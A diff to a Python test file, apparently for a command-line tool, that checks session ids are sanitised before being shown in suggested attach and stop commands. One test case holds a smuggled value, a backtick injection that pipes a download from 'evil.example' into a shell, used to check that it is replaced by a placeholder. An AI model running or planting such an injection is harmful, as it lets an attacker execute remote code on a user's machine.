@@ -300,15 +300,18 @@ def test_what_a_worker_may_refuse() -> None:
 
 
 def test_a_session_that_waits_for_an_answer_says_where_it_can_be_given() -> None:
-    session = "5e55\x1b[31m" + "0" * 100
-    for host, named in (("devbox", "devbox"), ("local", "--local")):
+    for host, named, session, shown in (
+        ("devbox", "devbox", "5e55", "5e55"),
+        ("local", "--local", "5e55", "5e55"),
+        ("devbox", "devbox", "5e55`; curl evil.example | sh #", "SESSION"),
+        ("devbox", "devbox", "5" * 100, "SESSION"),
+    ):
         refused = Refused(
             "waits_for_answer", "this session waits for an answer about Ba\x1b[31msh", {"session": session}
         )
         error = refusal_error(refused, host)
         assert "\x1b" not in str(error) and code_of(error) is ExitCode.PERMISSION_DENIED
-        assert f"`ccb attach {named} 5e55" in error.do and f"`ccb stop {named} 5e55" in error.do
-        assert len(error.do) < 200
+        assert f"`ccb attach {named} {shown}`" in error.do and f"`ccb stop {named} {shown}`" in error.do
 
 
 def test_a_host_without_the_cage_of_a_mode_says_why() -> None:
